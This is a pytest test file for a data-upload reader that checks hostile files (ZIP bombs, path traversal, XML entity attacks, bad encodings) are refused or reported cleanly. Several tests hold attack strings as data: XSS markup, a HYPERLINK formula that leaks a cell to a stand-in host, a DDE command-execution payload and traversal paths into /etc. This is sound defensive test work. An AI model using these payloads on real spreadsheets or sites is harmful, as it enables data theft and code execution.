"""Tests for network.formats.upload: bring your own data, read without trusting it.

The corpus in tests/fixtures/hostile/ (made by make_hostile.py there) holds broken and
hostile uploads, one folder per case with the files as a user would upload them. Each
case must give its own message, at its own place, and never an exception. Big cases (a
50 MB file, ZIP bombs, 50,001 rows) are made here, in a temporary folder. Templates,
Kumu, GraphML and GEXF have test files of their own.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from network.formats.template import template_xlsx
from network.formats.upload import load_package, read_upload
from network.formats.upload_report import MAX_LISTED
from network.model.limits import MB, Limits
from network.model.schema import BUNDLED_DATA, TABLE_ORDER
from tests.formats.uploads import (
    HOSTILE,
    E,
    W,
    bundled_files,
    filled_template,
    minimal_files,
    problems,
    upload_case,
    zipped,
)

# --- the hostile corpus -------------------------------------------------------------------

#: case → (loads?, one problem it must report: (severity, key, table, row, column))
CASES: dict[str, tuple[bool, tuple | None]] = {
    # wrong encodings
    "latin1_encoding": (True, (W, "v.decoded_latin1", "actors.csv", None, None)),
    "utf16_encoding": (False, (E, "upload.utf16", "actors.csv", None, None)),
    # not what the name says
    "empty_file": (False, (E, "upload.empty_file", "actors.csv", None, None)),
    "png_as_csv": (False, (E, "upload.wrong_type", "actors.csv", None, None)),
    "gzip_as_csv": (False, (E, "upload.wrong_type", "ties.csv", None, None)),
    "html_page_as_csv": (False, (E, "upload.wrong_type", "actors.csv", None, None)),
    "pdf_as_xlsx": (False, (E, "upload.wrong_type", "book.xlsx", None, None)),
    "random_xlsx": (False, (E, "upload.binary", "book.xlsx", None, None)),
    "junk_xlsx": (False, (E, "upload.not_a_workbook", "book.xlsx", None, None)),
    "xls_old_format": (False, (E, "upload.save_as_xlsx", "book.xls", None, None)),
    "ods_workbook": (False, (E, "upload.save_as_xlsx", "book.ods", None, None)),
    "mixed_files": (False, (E, "upload.mixed_files", "package.zip", None, None)),
    "wrong_file_name": (False, (E, "upload.unknown_file", "data.csv", None, None)),
    # workbooks
    "missing_sheet": (False, (E, "v.missing_table", "book.xlsx › ties", None, None)),
    "duplicate_ids": (False, (E, "v.duplicate", "book.xlsx › actors", 6, "id")),
    "unrelated_workbook": (False, (E, "upload.xlsx_no_tables", "book.xlsx", None, None)),
    "formulas": (True, (W, "upload.formulas_as_values", "book.xlsx", None, None)),
    "formula_no_value": (True, (W, "upload.formula_no_value", "book.xlsx › actors", 3, "city")),
    # ZIP archives
    "unknown_ids": (False, (E, "v.unknown_reference", "ties.csv", 3, "target")),
    "path_traversal": (False, (E, "upload.zip_unsafe_path", "package.zip", None, None)),
    "truncated_zip": (False, (E, "upload.zip_corrupt", "package.zip", None, None)),
    "duplicate_tables_zip": (False, (E, "upload.duplicate_table", "package.zip", None, None)),
    "zip_no_tables": (False, (E, "upload.zip_no_tables", "package.zip", None, None)),
    "encrypted_zip": (False, (E, "upload.zip_encrypted", "package.zip", None, None)),
    "zip_declared_huge": (False, (E, "upload.zip_too_large", "package.zip", None, None)),
    "zip_lying_sizes": (False, (E, "upload.zip_corrupt", "package.zip", None, None)),
    "nested_zip": (True, None),
    # CSV content
    "bad_years": (False, (E, "v.too_large", "actors.csv", 2, "founded")),
    "unknown_evidence": (False, (E, "v.unknown_source", "actors.csv", 2, "evidence")),
    "csv_only_headers": (False, (E, "v.empty_table", "actors.csv", None, None)),
    "duplicate_csv_files": (False, (E, "upload.duplicate_table", "actors.csv", None, None)),
    "html_in_names": (True, None),
    "csv_formula_injection": (True, None),
    "isolated_actor": (True, (W, "v.isolated_actor", "actors.csv", 6, "id")),
    "no_discourses": (True, (W, "upload.no_discourses", "discourses.csv", None, None)),
    # Kumu
    "kumu_workbook": (True, (W, "upload.ignored_attributes", "kumu.xlsx › Elements", None, None)),
    "kumu_no_connections": (False, (E, "upload.kumu_missing_sheet", "kumu.xlsx › Connections",
                                    None, None)),
    "kumu_duplicate_label": (False, (E, "upload.duplicate_node", "kumu.xlsx › Elements", 6,
                                     "Label")),
    "kumu_unknown_element": (False, (E, "upload.unknown_node", "kumu.xlsx › Connections", 6,
                                     "To")),
    # GraphML and GEXF
    "graphml_no_node_ids": (False, (E, "upload.graph_node_without_id", "network.graphml", 6,
                                    "id")),
    "graphml_unknown_node": (False, (E, "upload.unknown_node", "network.graphml", 7, "target")),
    "graphml_self_loop": (False, (E, "v.self_loop", "network.graphml", 7, "target")),
    "broken_xml": (False, (E, "upload.xml_invalid", "network.graphml", None, None)),
    "xml_entity_bomb": (False, (E, "upload.xml_entities", "network.graphml", None, None)),
    "xml_external_entity": (False, (E, "upload.xml_entities", "network.gexf", None, None)),
    "gexf_unknown_attributes": (True, (W, "upload.ignored_attributes", "network.gexf", None,
                                       None)),
}


def test_the_corpus_is_complete():
    on_disk = {p.name for p in HOSTILE.iterdir() if p.is_dir() and p.name != "__pycache__"}
    assert on_disk == set(CASES)
    assert len(CASES) >= 25


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_upload_gives_its_own_message(case):
    loads, expected = CASES[case]
    result = upload_case(case)
    found = problems(result)
    assert "upload.internal" not in [p[1] for p in found], result.report.render()
    assert (result.dataset is not None) == loads, result.report.render()
    if expected is not None:
        assert expected in found, found
    if not loads:
        assert result.content_key == "" and result.package is None
        assert not result.report.ok
    for lang in ("en", "es"):
        text = result.report.render(lang)
        assert "{" not in text and "Traceback" not in text
    if result.report.problems:
        first = result.report.problems[0]
        assert first.message("en") != first.message("es") or first.key.startswith("v.")


def test_every_error_case_has_a_message_of_its_own():
    """No two refused cases are told the same thing, unless they are the same fault."""
    keys = [CASES[c][1][1] for c in CASES if not CASES[c][0] and CASES[c][1]]
    same_fault = {"upload.wrong_type", "upload.save_as_xlsx", "upload.xml_entities",
                  "upload.unknown_node", "upload.duplicate_table", "upload.zip_corrupt"}
    repeated = {k for k in keys if keys.count(k) > 1} - same_fault
    assert not repeated


def test_wrong_type_names_what_the_file_is():
    result = upload_case("png_as_csv", lang="es")
    problem = next(p for p in result.report.problems if p.key == "upload.wrong_type")
    assert "PNG" in problem.message("en") and "PNG" in problem.message("es")
    assert "PDF" in upload_case("pdf_as_xlsx").report.render()


def test_bad_years_are_each_reported():
    found = problems(upload_case("bad_years"))
    assert (E, "v.too_large", "actors.csv", 2, "founded") in found
    assert (E, "v.not_integer", "ties.csv", 4, "from_year") in found


def test_latin1_is_read_with_its_accents():
    ds = upload_case("latin1_encoding").dataset
    assert ds.actors.loc["rae", "name_es"] == "Red de Agricultura Ecológica del Perú"


def test_formulas_are_read_as_saved_values_never_evaluated():
    ds = upload_case("formulas").dataset
    assert ds.actors.loc["ideas", "name"] == "Centro IDEAS"  # not "2" from =1+1
    assert ds.actors.loc["idma", "name"] == "IDMA"  # the DDE "formula" never ran
    assert ds.actors.loc["idma", "founded"] == 1984
    warning = next(p for p in upload_case("formulas").report.problems
                   if p.key == "upload.formulas_as_values")
    assert dict(warning.params)["count"] == 3


def test_formula_without_saved_value_is_an_empty_cell_and_a_warning():
    result = upload_case("formula_no_value")
    assert result.dataset.actors.loc["ideas", "city"] == ""
    assert "HYPERLINK" not in result.report.render()


@pytest.mark.parametrize("case", ["html_in_names", "csv_formula_injection"])
def test_markup_and_formulas_in_names_stay_plain_text(case):
    ds = upload_case(case).dataset
    names = set(ds.actors["name"]) | set(ds.actors["acronym"]) | set(ds.actors["description"])
    if case == "html_in_names":
        assert "<script>alert('rae')</script>" in names
        assert '<img src=x onerror="alert(1)">Centro <b>IDEAS</b>' in names
    else:
        assert '=HYPERLINK("http://example.invalid/?leak="&A1,"RAE")' in names
        assert "+cmd|' /C calc'!A0" in names


def test_external_entities_are_never_resolved():
    for case in ("xml_external_entity", "xml_entity_bomb"):
        text = upload_case(case).report.render()
        assert "root:" not in text and "lollol" not in text


def test_path_traversal_writes_nothing(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    upload_case("path_traversal")
    assert not any(tmp_path.rglob("*"))
    assert not Path("/etc/cron.d/evil.csv").exists()


def test_duplicate_sheet_row_points_at_the_first_one():
    problem = next(p for p in upload_case("duplicate_ids").report.problems
                   if p.key == "v.duplicate")
    assert dict(problem.params)["other"] == 3
    assert "book.xlsx › actors" in problem.render("es") and "fila 6" in problem.render("es")


# --- made at test time: the big ones ------------------------------------------------------


def test_a_50_mb_file_is_refused_before_reading(tmp_path):
    path = tmp_path / "actors.csv"
    with path.open("wb") as fh:
        fh.write(b"id,name\n")
        fh.write(b"a" * (50 * MB))
    result = read_upload([(path.name, path.read_bytes())])
    assert problems(result) == [(E, "upload.too_big", "actors.csv", None, None)]
    assert "50 MB" in result.report.render() and "20 MB" in result.report.render()


def test_many_files_together_over_the_size_limit():
    files = [(f"{t}.csv", b"x" * (6 * MB)) for t in TABLE_ORDER[:4]]
    assert problems(read_upload(files))[0][:3] == (E, "upload.too_big", "upload")


def test_zip_bomb_is_refused_by_its_ratio(tmp_path):
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("actors.csv", "w") as member:
            chunk = bytes(MB)
            for _ in range(40):
                member.write(chunk)
    assert path.stat().st_size < 200_000
    result = read_upload([("bomb.zip", path.read_bytes())])
    assert problems(result) == [(E, "upload.zip_bomb", "bomb.zip", None, None)]
    assert "actors.csv" in result.report.render("es")


def test_zip_bomb_is_refused_by_its_total_size(tmp_path):
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(3):
            with archive.open(f"part{i}/actors.csv", "w") as member:
                for _ in range(4):
                    member.write(bytes(MB))
    limits = Limits(max_unzipped_bytes=10 * MB, max_ratio=10_000)
    result = read_upload([("bomb.zip", path.read_bytes())], limits)
    assert problems(result) == [(E, "upload.zip_too_large", "bomb.zip", None, None)]


def test_xlsx_bomb_is_refused_before_openpyxl_sees_it(tmp_path):
    data = template_xlsx("en")
    with zipfile.ZipFile(io.BytesIO(data)) as zin:
        items = [(i, zin.read(i.filename)) for i in zin.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zout:
        for info, content in items:
            zout.writestr(info, content)
        zout.writestr("xl/worksheets/sheet99.xml", bytes(30 * MB))
    result = read_upload([("book.xlsx", buffer.getvalue())])
    assert problems(result) == [(E, "upload.zip_bomb", "book.xlsx", None, None)]


def test_too_many_files_in_a_zip(tmp_path):
    files = [(f"junk/{i}.txt", b"") for i in range(1001)]
    result = read_upload([("many.zip", zipped(files))])
    assert problems(result) == [(E, "upload.zip_too_many_files", "many.zip", None, None)]


def test_too_many_rows_in_a_csv(tmp_path):
    files = dict(minimal_files())
    header, first = files["actors.csv"].decode().splitlines()[:2]
    body = "\n".join(first.replace("rae,", f"a{i},", 1) for i in range(20_001))
    files["actors.csv"] = f"{header}\n{body}\n".encode()
    result = read_upload(list(files.items()))
    assert problems(result) == [(E, "upload.too_many_rows", "actors.csv", None, None)]
    assert "20000" in result.report.render()


def test_too_many_rows_in_a_sheet_and_a_graph():
    result = read_upload([("book.xlsx", filled_template())], Limits(max_rows=10))
    assert (E, "upload.too_many_rows", "book.xlsx › sources", None, None) in problems(result)
    graph = (HOSTILE / "gexf_unknown_attributes" / "network.gexf").read_bytes()
    result = read_upload([("network.gexf", graph)], Limits(max_rows=1))
    assert problems(result) == [(E, "upload.too_many_rows", "network.gexf", None, None)]


def test_a_field_bigger_than_the_csv_limit_is_unreadable():
    files = dict(minimal_files())
    files["sources.csv"] = files["sources.csv"] + b'E9,"' + b"x" * 200_000 + b'",,,,\n'
    found = problems(read_upload(list(files.items())))
    assert found[0][:3] == (E, "v.unreadable", "sources.csv")


def test_nothing_uploaded_and_too_many_files():
    assert problems(read_upload([])) == [(E, "upload.no_files", "upload", None, None)]
    result = read_upload(minimal_files(), Limits(max_files=3))
    assert problems(result)[0][1] == "upload.too_many_files"


def test_file_names_are_shown_without_their_path():
    result = read_upload([("../../secret/dir\\evil<b>.csv", b"")])
    assert problems(result) == [(E, "upload.empty_file", "evil<b>.csv", None, None)]


# --- what is accepted, and the content key --------------------------------------------------


def test_the_same_data_gets_the_same_key_whatever_the_format():
    as_csv = read_upload(bundled_files())
    as_csv_reversed = read_upload(list(reversed(bundled_files())))
    as_zip = read_upload([("data.zip", zipped(bundled_files(), "data/"))])
    as_xlsx = read_upload([("filled.xlsx", filled_template("es"))])
    results = (as_csv, as_csv_reversed, as_zip, as_xlsx)
    for result in results:
        assert result.report.problems == [], result.report.render()

    def tables(result) -> dict[str, bytes]:
        with zipfile.ZipFile(io.BytesIO(result.package)) as archive:
            return {n: archive.read(n) for n in archive.namelist() if n.endswith(".csv")}

    # the same tables, byte for byte; the key also holds the title (here the file's name)
    assert all(tables(r) == tables(as_csv) for r in results)
    assert as_csv.content_key == as_csv_reversed.content_key
    assert len({as_csv.dataset.title, as_zip.dataset.title, as_xlsx.dataset.title}) == 3
    assert len({as_csv.content_key, as_zip.content_key, as_xlsx.content_key}) == 3
    key = as_csv.content_key
    assert re.fullmatch(r"[0-9a-f]{64}", key)
    assert as_csv.dataset.key == key[:16]
    assert (as_csv.kind, as_zip.kind, as_xlsx.kind) == ("csv", "zip", "xlsx")


def test_another_title_or_licence_is_another_data_set():
    """Whoever uploads the same tables under another title gets a data set of their own,
    never a new title on someone else's (the key covers the metadata)."""
    files = dict(minimal_files())
    plain = read_upload(list(files.items()))
    for meta in ({"title": "Someone else's title"},
                 {"licenses": [{"name": "other", "path": "https://example.invalid"}]}):
        other = read_upload([*files.items(), ("datapackage.json", json.dumps(meta).encode())])
        assert other.dataset is not None and other.content_key != plain.content_key


def test_a_different_cell_gives_a_different_key():
    files = dict(minimal_files())
    key = read_upload(list(files.items())).content_key
    files["actors.csv"] = files["actors.csv"].replace(b"Lima", b"Cusco", 1)
    assert read_upload(list(files.items())).content_key not in ("", key)


def test_package_reads_back_to_the_same_data_set():
    meta = ("datapackage.json", (BUNDLED_DATA / "datapackage.json").read_bytes())
    first = read_upload([("data.zip", zipped([*bundled_files(), meta]))])
    again = load_package(first.package)
    assert again.report.problems == [] and again.content_key == first.content_key
    assert again.package == first.package  # byte for byte: safe to compare or hash
    a, b = first.dataset, again.dataset
    assert a.actors.equals(b.actors) and a.ties.equals(b.ties)
    assert b.title.startswith("NGO and SME sustainability networks")
    assert a.positions == b.positions


def test_optional_discourses_load_and_round_trip():
    result = upload_case("no_discourses")
    assert len(result.dataset.discourses) == 0
    again = load_package(result.package)
    assert again.content_key == result.content_key


def test_warnings_do_not_block_loading():
    result = upload_case("isolated_actor")
    assert result.report.warnings and result.report.ok
    assert "lonely" in result.dataset.actors.index


# --- templates -----------------------------------------------------------------------------


@pytest.mark.parametrize("member", ["/etc/actors.csv", "C:\\Windows\\actors.csv",
                                    "data\\..\\..\\actors.csv", "data/../../actors.csv"])
def test_every_kind_of_unsafe_member_path_is_refused(member):
    files = [*minimal_files(), (member, b"id\n")]
    found = problems(read_upload([("package.zip", zipped(files))]))
    assert found == [(E, "upload.zip_unsafe_path", "package.zip", None, None)]


def test_browser_data_urls_are_decoded_safely():
    from network.formats.upload import decode_data_url

    assert decode_data_url("data:text/csv;base64,aWQsbmFtZQo=") == b"id,name\n"
    for bad in (None, "", "data:text/csv;base64,@@@", "data:text/csv,plain", "aWQ="):
        assert decode_data_url(bad) == b""


def test_too_many_columns_is_one_message_not_thousands():
    files = dict(minimal_files())
    header = ",".join(f"c{i}" for i in range(5000))
    files["actors.csv"] = f"{header}\n{','.join('x' * 5000)}\n".encode()
    assert problems(read_upload(list(files.items()))) == [
        (E, "upload.too_many_columns", "actors.csv", None, None)]


def test_a_long_report_is_cut_with_a_count_of_the_rest():
    files = dict(minimal_files())
    lines = files["actors.csv"].decode().splitlines()
    bad = lines[1].replace("ngo_network", "castle")
    body = [bad.replace("rae,", f"r{i},", 1) for i in range(MAX_LISTED + 100)]
    files["actors.csv"] = "\n".join([lines[0], *lines[1:], *body, ""]).encode()
    result = read_upload(list(files.items()))
    report = result.report
    assert len(report.errors) == MAX_LISTED and len(report.warnings) == MAX_LISTED
    assert report.totals == (MAX_LISTED + 100, MAX_LISTED + 100) and not report.ok
    last = report.problems[-1]
    assert (last.severity, last.key) == ("note", "upload.more_problems")
    assert dict(last.params)["count"] == 200  # 100 errors and 100 warnings not listed
